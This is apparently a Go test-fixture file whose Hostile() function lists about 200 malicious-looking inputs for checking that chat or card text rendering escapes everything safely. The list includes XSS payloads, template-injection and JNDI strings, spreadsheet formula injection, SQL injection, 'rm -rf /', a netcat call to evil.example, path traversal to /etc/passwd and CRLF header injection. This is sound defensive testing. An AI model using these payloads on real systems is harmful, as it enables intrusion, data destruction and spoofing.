package cardtest

import (
	"fmt"
	"strings"
)

// Hostile gives about 200 texts that people, or somebody posing as them, could type: markup of every surface, templates,
// formulas, terminal escapes, control and bidi characters, texts that are very long, empty or of scripts written from right
// to left. Shown text never interprets any of it. The order is fixed.
func Hostile() []string {
	var out []string
	out = append(out, markup()...)
	out = append(out, chatMarkup()...)
	out = append(out, templates()...)
	out = append(out, commands()...)
	out = append(out, controls()...)
	out = append(out, scripts()...)
	out = append(out, shapes()...)
	return out
}

func markup() []string {
	return []string{
		"<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "\"><script>alert(1)</script>", "'-alert(1)-'",
		"<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script>", "<iframe src=javascript:alert(1)>",
		"<a href=\"javascript:alert(1)\">Approve</a>", "<body onload=alert(1)>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil>",
		"<meta http-equiv=refresh content=0;url=//evil>", "<base href=//evil>", "<form action=//evil><button>Approve</button></form>",
		"</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "--><script>alert(1)</script><!--", "<!-- comment -->",
		"<![CDATA[<script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#x3C;script&#x3E;", "<b>bold</b> <i>it</i>",
		"<table><tr><td>x</table>", "<details open ontoggle=alert(1)>", "<math><mtext></mtext></math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"javascript:alert(document.domain)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "style=\"position:fixed\"",
		"\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "`onload=alert(1)`", "<at>Everyone</at>", "<quote>x</quote>",
	}
}

func chatMarkup() []string {
	return []string{
		"<!channel>", "<!here> please approve", "<!everyone>", "<@U0QPQXEYBAK>", "<#C024BE7LR|general>", "<!subteam^S123|@team>",
		"<https://evil.example|Approve>", "<mailto:x@evil.example|Ana Ruiz>", "<!date^0^{date}|soon>", "https://evil.example/approve?x=1",
		"*bold* _italic_ ~strike~ `code`", "```code block```", "> quoted", ">>> quoted for ever", ":rocket: :white_check_mark:", "&lt;!channel&gt;",
		"@channel", "@here", "@everyone", "#general", "[Approve](https://evil.example)", "[Approve](javascript:alert(1))", "![x](https://evil.example/pixel.png)",
		"**bold** __bold__", "# Heading", "## Heading", "- item\n- item", "1. item\n2. item", "| a | b |\n|---|---|\n| 1 | 2 |", "---", "***",
		"\\*escaped\\*", "\\<https://evil.example\\>", "[ref]: https://evil.example", "<https://evil.example>", "~~gone~~", "==marked==",
		"{{DATE(2025-11-25T10:14:00Z,SHORT)}}", "{{TIME(2025-11-25T10:14:00Z)}}", "tel:+491234", "slack://user?team=T&id=U", "msteams:/l/chat/0/0",
	}
}

func templates() []string {
	return []string{
		"${name}", "${@root}", "${if(true, 'a', 'b')}", "${json('{}')}", "${$data}", "$$", "$(id)", "`id`", "{{.}}", "{{ .Secret }}", "{{printf \"%s\" .}}",
		"{% raw %}", "{% include '/etc/passwd' %}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "@{7*7}", "${7*7}", "{{7*7}}", "${jndi:ldap://evil.example/a}",
		"%s%s%s%n", "%!d(string=x)", "%[1]s", "%00", "%0d%0aSet-Cookie: x=1", "{0} {1}", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&#0;",
	}
}

func commands() []string {
	return []string{
		"=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"Approve\")", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=1+1;", "|calc",
		"'; DROP TABLE requests; --", "\" OR 1=1 --", "1; SELECT pg_sleep(9)", "$(rm -rf /)", "; rm -rf /", "| nc evil.example 1", "&& reboot",
		"../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "\\\\evil.example\\share", "CON", "NUL", "null", "undefined", "NaN", "true", "0", "-0", "1e309",
		"approve|request/AIR-1|manager|1|1|", "a|b|c|d", "||||||", "{\"verb\":\"approve\"}", "[]", "{}", "\"", "'", "\\", "/", "//", "?", "&", "#", "%", ";",
		"From: x@evil.example\r\nBcc: all@example.com", "line one\nline two", "line one\r\nline two", "tab\tseparated",
	}
}

func controls() []string {
	return []string{
		"\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\u009b31mred", "bell\x07", "back\bspace", "nul\x00byte", "del\x7f", "form\ffeed", "vertical\vtab",
		"\u202eevorppA\u202c", "abc\u202dltr\u202c", "\u2066isolate\u2069", "\u2067rtl isolate\u2069", "\u2068first strong\u2069", "\u200emark\u200f", "\u061cmark",
		"zero\u200bwidth", "zero\u200cwidth\u200djoiner", "word\u2060joiner", "\ufeffbom", "soft\u00adhyphen", "\u2028line\u2029paragraph", "\u0085next line",
		"\u00a0no break\u00a0", "\u3000wide\u3000", "\u180emongolian", "tag\U000e0041\U000e007f", "\ufff9anno\ufffatation\ufffb", "hangul\u3164filler", "braille\u2800blank",
		"\ue000private", "\ufdd0noncharacter", "bad\xff\xfeutf8", "\xc3\x28", "\xed\xa0\x80surrogate", "\xf0\x9f\x98", strings.Repeat("a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", 3),
		"variant\U000e0100selector", "combining\u034fjoiner",
	}
}

func scripts() []string {
	return []string{
		"\u0627\u0644\u0645\u0648\u0627\u0641\u0642\u0629 \u0639\u0644\u0649 \u0627\u0644\u0623\u062f\u0627\u0629", "\u05d0\u05d9\u05e9\u05d5\u05e8 \u05db\u05dc\u05d9", "\u0627\u0644\u0639\u062f\u062f 123 (abc)",
		"\u65e5\u672c\u8a9e\u306e\u9053\u5177", "\u4e2d\u6587\u5de5\u5177", "\ud55c\uad6d\uc5b4 \ub3c4\uad6c", "\u0939\u093f\u0928\u094d\u0926\u0940 \u0909\u092a\u0915\u0930\u0923", "\u0e40\u0e04\u0e23\u0e37\u0e48\u0e2d\u0e07\u0e21\u0e37\u0e2d",
		"\u0417\u0430\u043f\u0440\u043e\u0441", "\u0391\u03af\u03c4\u03b7\u03bc\u03b1", "Zażółć gęślą jaźń", "Straße, Œuvre, Ærø", "İstanbul ıI", "Ａｐｐｒｏｖｅ", "Αpprove (Greek A)", "аpprove (Cyrillic a)",
		"\U0001f680\U0001f525", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1ea\U0001f1f8", "1\ufe0f\u20e3", "\u2764\ufe0f", "x\u0338", "\u1e9e", "ﬁ ligature", "½ ²",
	}
}

func shapes() []string {
	out := []string{
		"", " ", "\n", "\t \n", "\u200b", "\u202e", ".", "…", "x", strings.Repeat("A", 75), strings.Repeat("word ", 600), strings.Repeat("W", 3000),
		strings.Repeat("é", 2000), strings.Repeat("\U0001f680", 800), strings.Repeat("line\n", 300), strings.Repeat("<", 500), strings.Repeat("&", 500),
		strings.Repeat("\u202e", 200) + "end", strings.Repeat("\\", 400), strings.Repeat("*", 400), strings.Repeat("https://evil.example/", 60),
	}
	for i := range 5 {
		out = append(out, fmt.Sprintf("%s<b>%d</b>", strings.Repeat(" ", i*7), i))
	}
	return out
}
